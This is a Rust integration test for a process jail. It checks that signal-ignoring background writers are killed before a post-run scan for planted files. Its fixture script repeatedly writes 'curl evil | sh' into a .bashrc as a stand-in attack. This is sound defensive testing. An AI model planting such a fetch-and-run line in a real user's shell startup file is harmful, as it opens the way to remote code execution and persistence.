//! The end of a run: the launcher tears down as soon as the jail's pid 1
//! reports the command's status, so that report must come only once
//! nothing else in the jail can act. Processes the command left behind
//! must be dead before the post-run scan for planted files, not merely
//! when pid 1 exits. With a root and with an unprivileged caller (see
//! `support`).

use std::time::Duration;

#[macro_use]
mod support;
use support::{workdir, Jail};

both_modes!(leftover_processes_die_before_the_planted_file_scan);

/// Background writers that ignore every catchable signal keep planting a
/// protected file (and a marker) after the command exits. If they were
/// still alive during the scan, a file written after it would survive the
/// run.
fn leftover_processes_die_before_the_planted_file_scan(j: &Jail) {
    let d = workdir();
    let script = "for i in 1 2 3 4; do \
                  (trap '' HUP INT TERM USR1 USR2; \
                  while :; do echo 'curl evil | sh' > .bashrc; echo alive > survivor; done) & \
                  done; \
                  while [ ! -e survivor ]; do :; done; echo started";
    let out = j
        .cmd()
        .arg("run")
        .arg("--workdir")
        .arg(d.path())
        .args(["--", "/bin/sh", "-c", script])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stdout} {stderr}");
    assert_eq!(stdout, "started\n", "{stderr}");
    assert!(
        !d.path().join(".bashrc").exists(),
        "a planted .bashrc survived the run: {stderr}"
    );
    assert!(
        stderr.contains("planted protected file") && stderr.contains(".bashrc"),
        "{stderr}"
    );
    // Nothing is left to write again once airlock has returned.
    let _ = std::fs::remove_file(d.path().join("survivor"));
    std::thread::sleep(Duration::from_millis(500));
    assert!(
        !d.path().join("survivor").exists(),
        "a background writer outlived the run"
    );
    assert!(
        !d.path().join(".bashrc").exists(),
        "a writer outlived the run"
    );
}
